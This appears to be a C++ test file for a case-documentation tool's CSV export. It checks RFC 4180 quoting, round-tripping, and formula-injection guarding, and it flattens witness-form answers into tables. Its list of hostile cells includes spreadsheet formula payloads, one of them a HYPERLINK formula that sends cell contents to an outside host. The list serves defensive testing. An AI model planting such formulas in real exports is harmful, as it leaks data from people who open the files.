// SPDX-License-Identifier: GPL-3.0-or-later
// The RFC 4180 writer of the case export and the flattening of answers into tables
// (docs/FORMAT.md 18), read back with a strict RFC 4180 parser.

#include <algorithm>
#include <random>

#include "csv_strict.h"
#include "forms/case_table.h"
#include "forms/csv.h"
#include "forms/registry.h"
#include "forms/sealed.h"
#include "test_support.h"

using namespace svidok;
using namespace svidok::forms;
using svidok::test::parse_csv_strict;

namespace {

std::string write(const std::vector<std::vector<std::string>>& records) {
    std::string out;
    for (const auto& r : records) csv::append_record(out, r);
    return out;
}

/// The records a reader gets back: each field as csv::cell_text() writes it.
std::vector<std::vector<std::string>> as_cells(std::vector<std::vector<std::string>> records) {
    for (auto& r : records) {
        for (auto& f : r) f = csv::cell_text(f);
    }
    return records;
}

/// What a reader recovers from a cell: one leading apostrophe removed (docs/FORMAT.md 18.3).
std::string unguarded(std::string_view cell) {
    return std::string(cell.starts_with(csv::kFormulaGuard) ? cell.substr(1) : cell);
}

const std::vector<std::string> kHostile{
    "",
    " ",
    "  leading and trailing  ",
    "Київ, вул. Хрещатик",
    "Ганна \"Ластівка\" Приклад",
    "\"",
    "\"\"",
    ",",
    "line one\nline two",
    "cr\ronly",
    "crlf\r\nend\r\n",
    "a|b||c|",
    "Москва; «ёлка» — ЁЁЁ",
    "tab\there",
    "emoji 🙂 and ї є ґ",
    "=1+1",
    "=HYPERLINK(\"https://example.org/?\"&H2&I2,\"x\")",
    "@SUM(1)",
    "+1",
    "-1+2",
    "-5",
    "\xEF\xBC\x9D"
    "1+1",  // full-width =
    "'quoted",
    "\tx",
    "\r\n=1",
};

std::size_t column(const case_table::Table& t, std::string_view key) {
    for (std::size_t i = 0; i < t.columns.size(); ++i) {
        if (t.columns[i].key == key) return i;
    }
    FAIL("no column " << key);
    return 0;
}

}  // namespace

TEST_CASE("fields are quoted exactly when RFC 4180 requires it, records end in CRLF") {
    CHECK_FALSE(csv::needs_quotes(""));
    CHECK_FALSE(csv::needs_quotes("Київ  "));
    CHECK_FALSE(csv::needs_quotes("a|b"));
    CHECK(csv::needs_quotes("a,b"));
    CHECK(csv::needs_quotes("say \"hi\""));
    CHECK(csv::needs_quotes("a\nb"));
    CHECK(csv::needs_quotes("a\rb"));
    CHECK(write({{"a", "b,c", "d\"e", ""}, {"ї", "x\ny", " ", "|"}}) ==
          "a,\"b,c\",\"d\"\"e\",\r\n\xD1\x97,\"x\ny\", ,|\r\n");
    // A record of one empty field is not an empty line.
    CHECK(write({{""}}) == "\"\"\r\n");
    CHECK(csv::kBom == "\xEF\xBB\xBF");
}

TEST_CASE("every hostile value round-trips through the strict parser") {
    std::vector<std::vector<std::string>> records{kHostile};
    for (const auto& v : kHostile) records.push_back(std::vector<std::string>(kHostile.size(), v));
    const std::string text = write(records);
    auto parsed = parse_csv_strict(text);
    REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
    CHECK(parsed.records == as_cells(records));
    for (std::size_t r = 0; r < records.size(); ++r) {
        for (std::size_t i = 0; i < records[r].size(); ++i) {
            CHECK(unguarded(parsed.records[r][i]) == records[r][i]);
        }
    }
    // One column of one empty value, too.
    auto lone = parse_csv_strict(write({{""}, {""}}));
    REQUIRE_MESSAGE(lone.error.empty(), lone.error);
    CHECK(lone.records == std::vector<std::vector<std::string>>{{""}, {""}});
}

TEST_CASE("random fields of quotes, separators and line breaks round-trip") {
    std::mt19937 rng(4180);
    const std::vector<std::string> alphabet{"a", " ", ",", "\"", "\r", "\n", "|", "ї",
                                            "Ё", ";", "=", "-",  "'",  "5",  "＋"};
    for (int round = 0; round < 300; ++round) {
        const std::size_t cols = 1 + rng() % 6;
        std::vector<std::vector<std::string>> records(1 + rng() % 5);
        for (auto& r : records) {
            for (std::size_t c = 0; c < cols; ++c) {
                std::string f;
                for (std::size_t n = rng() % 8; n > 0; --n) f += alphabet[rng() % alphabet.size()];
                r.push_back(std::move(f));
            }
        }
        auto parsed = parse_csv_strict(write(records));
        REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
        REQUIRE(parsed.records == as_cells(records));
    }
}

TEST_CASE("a cell a spreadsheet would read as a formula gets one apostrophe, quoted") {
    // docs/FORMAT.md 18.3: every lead, after leading spaces.
    for (std::string_view lead :
         {"=",  "+",  "-", "@", "\t", "\r", "\n", "'", "＝", "﹦", "⁼",  "₌",
          "＋", "﹢", "﬩", "⁺", "₊",  "－", "﹣", "−", "⁻",  "₋",  "＠", "﹫"}) {
        for (const std::string& field :
             {std::string(lead) + "1+1", "  " + std::string(lead) + "x", std::string(lead)}) {
            CAPTURE(field);
            CHECK(csv::needs_formula_guard(field));
            std::string out;
            csv::append_field(out, field);
            std::string quoted = "\"'";
            for (char c : field) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
            CHECK(out == quoted + "\"");
        }
    }
    CHECK(write({{"=1+1", "@SUM(1)", "x", "'a"}}) == "\"'=1+1\",\"'@SUM(1)\",x,\"''a\"\r\n");
    // A plain negative number stays a number; anything more is guarded.
    for (std::string_view number : {"-5", "-0", "-0.25", "-12345678901234567890"}) {
        CAPTURE(number);
        CHECK_FALSE(csv::needs_formula_guard(number));
        CHECK(csv::cell_text(number) == number);
    }
    for (std::string_view not_number :
         {"-", "-.5", "-5.", "-5 ", " -5", "--5", "-1e3", "-1+2", "-5.0.1", "-٥", "-５"}) {
        CAPTURE(not_number);
        CHECK(csv::needs_formula_guard(not_number));
    }
    // Ordinary text, and a lead that is not first, are left alone.
    for (std::string_view plain : {"", " ", "5", "a=1", "Київ", "1-2", "x@y", "\xE2\x80\x94 dash",
                                   "[sealed for the legal team]"}) {
        CAPTURE(plain);
        CHECK_FALSE(csv::needs_formula_guard(plain));
        CHECK(csv::cell_text(plain) == plain);
    }
}

TEST_CASE("the strict parser rejects malformed quoting and line ends") {
    CHECK(parse_csv_strict("a,b\r\n").error.empty());
    for (std::string_view bad : {
             "a\"b\r\n",      // quote inside an unquoted field
             "\"ab\r\n",      // unterminated
             "\"a\"b\r\n",    // text after the closing quote
             "a,b\n",         // LF line end
             "a,b\r",         // CR alone
             "a,b",           // no final CRLF
             "a,b\r\nc\r\n",  // different field counts
             "\"a\"\"\r\n",   // the doubled quote leaves it unterminated
         }) {
        CAPTURE(bad);
        CHECK_FALSE(parse_csv_strict(bad).error.empty());
    }
}

TEST_CASE("a record's answers become a labelled main row and linked rows per repeat") {
    auto registry = load_builtin();
    REQUIRE(registry.has_value());
    const FormDefinition& form = *registry->find("forced-mobilization");
    json::Value answers = form.example();
    // A free-text "other" answer holding the separator, in a multi-choice answer.
    json::Value witness = *answers.find("witness");
    json::Array needs = witness.find("protection_needs")->as_array();
    json::Object other;
    other.emplace_back("value", json::Value("other"));
    other.emplace_back("other", json::Value("охорона | супровід"));
    needs.emplace_back(std::move(other));
    witness.set("protection_needs", json::Value(std::move(needs)));
    // A sealed answer this vault cannot open.
    json::Object sealed_inner;
    sealed_inner.emplace_back("age", json::Value("AAAA"));
    json::Object marker;
    marker.emplace_back(std::string(kSealedMember), json::Value(std::move(sealed_inner)));
    witness.set("real_name", json::Value(std::move(marker)));
    answers.set("witness", std::move(witness));

    case_table::CellOptions o;
    o.lang = Language::uk;
    std::vector<std::string> sealed_paths;
    o.sealed_cell = [&](std::string_view path) {
        sealed_paths.emplace_back(path);
        return std::string("[sealed: not a recipient]");
    };
    o.attachment_file = [](std::string_view hex) { return "attachments/" + std::string(hex); };
    const std::vector<case_table::Column> leading{{"record_id", "id"}};
    auto tables = case_table::make_tables(form, leading, o);
    REQUIRE(tables.size() == 2);  // the main table and the victims
    CHECK(tables[1].key == "victims");
    CHECK(tables[1].columns[0].key == "record_id");
    CHECK(tables[1].columns[1].key == "row");
    CHECK(tables[1].columns[1].header == "Рядок");
    const std::vector<std::string> lead{"r1"};
    case_table::add_record(tables, form, answers, lead, "r1", o);
    case_table::add_record(tables, form, answers, lead, "r2", o);
    REQUIRE(tables[0].rows.size() == 2);
    const auto& main = tables[0];
    const auto& row = main.rows[0];
    REQUIRE(row.size() == main.columns.size());

    const Field& pseudonym = *form.find_field("pseudonym");
    const Field& witness_group = *form.find_field("witness");
    CHECK(main.columns[column(main, "witness.pseudonym")].header ==
          witness_group.label.in(Language::uk) + " / " + pseudonym.label.in(Language::uk));
    CHECK(row[column(main, "witness.pseudonym")] == "Ластівка");
    CHECK(row[column(main, "witness.real_name")] == "[sealed: not a recipient]");
    CHECK(sealed_paths.front() == "witness.real_name");
    // A choice: its label in Ukrainian, and the machine value.
    const auto* risk = form.find_vocabulary(form.find_field("risk_level")->vocabulary);
    CHECK(row[column(main, "witness.risk_level")] == risk->find("high")->label.in(Language::uk));
    CHECK(row[column(main, "witness.risk_level#code")] == "high");
    // Multi-choice: joined by "|", the "|" inside a value replaced.
    const std::string needs_cell = row[column(main, "witness.protection_needs")];
    CHECK(needs_cell.ends_with("|охорона " + std::string(case_table::kPipeReplacement) +
                               " супровід"));
    CHECK(std::ranges::count(needs_cell, '|') == 3);
    CHECK(row[column(main, "witness.protection_needs#code")] ==
          "anonymity|relatives_at_risk|psychological_support|other");
    // Dates, consent, location, repeats.
    CHECK(row[column(main, "incident.incident_date")] == "~2023-03/2023-05");
    CHECK(row[column(main, "consent.consent_interview.given")] == "так");
    CHECK(row[column(main, "consent.consent_interview.time")] == "2024-05-14T10:32:00+03:00");
    CHECK(row[column(main, "incident.incident_place.settlement")] == "Брянка");
    CHECK(row[column(main, "incident.incident_place.coordinates")] == "48.5133, 38.6435");
    CHECK(row[column(main, "victims#rows")] == "1");
    REQUIRE(tables[1].rows.size() == 2);
    CHECK(tables[1].rows[0][0] == "r1");
    CHECK(tables[1].rows[0][1] == "1");
    CHECK(tables[1].rows[1][0] == "r2");
    CHECK(tables[1].rows[0][column(tables[1], "victims.age_at_time")] == "19");
    CHECK(tables[1].rows[0][column(tables[1], "victims.victim_name")] == "Андрій Приклад");
    // Every cell of every row survives CSV.
    std::string text;
    std::vector<std::string> headers;
    for (const auto& c : main.columns) headers.push_back(c.header);
    csv::append_record(text, headers);
    for (const auto& r : main.rows) csv::append_record(text, r);
    auto parsed = parse_csv_strict(text);
    REQUIRE_MESSAGE(parsed.error.empty(), parsed.error);
    CHECK(parsed.records == as_cells({headers, main.rows[0], main.rows[1]}));

    // English headers; a missing answer is an empty cell; an unopened marker on the device.
    case_table::CellOptions en;
    en.lang = Language::en;
    auto t2 = case_table::make_tables(form, leading, en);
    json::Value empty{json::Object{}};
    case_table::add_record(t2, form, empty, lead, "r3", en);
    CHECK(t2[0].columns[column(t2[0], "witness.pseudonym")].header ==
          witness_group.label.in(Language::en) + " / " + pseudonym.label.in(Language::en));
    CHECK(t2[0].rows[0][column(t2[0], "witness.pseudonym")].empty());
    CHECK(t2[0].rows[0][column(t2[0], "victims#rows")].empty());
    CHECK(t2[1].rows.empty());
    case_table::add_record(t2, form, answers, lead, "r4", en);
    CHECK(t2[0].rows[1][column(t2[0], "witness.real_name")] == kSealedPlaceholder);
    CHECK(t2[0].rows[1][column(t2[0], "consent.consent_interview.given")] == "yes");
}
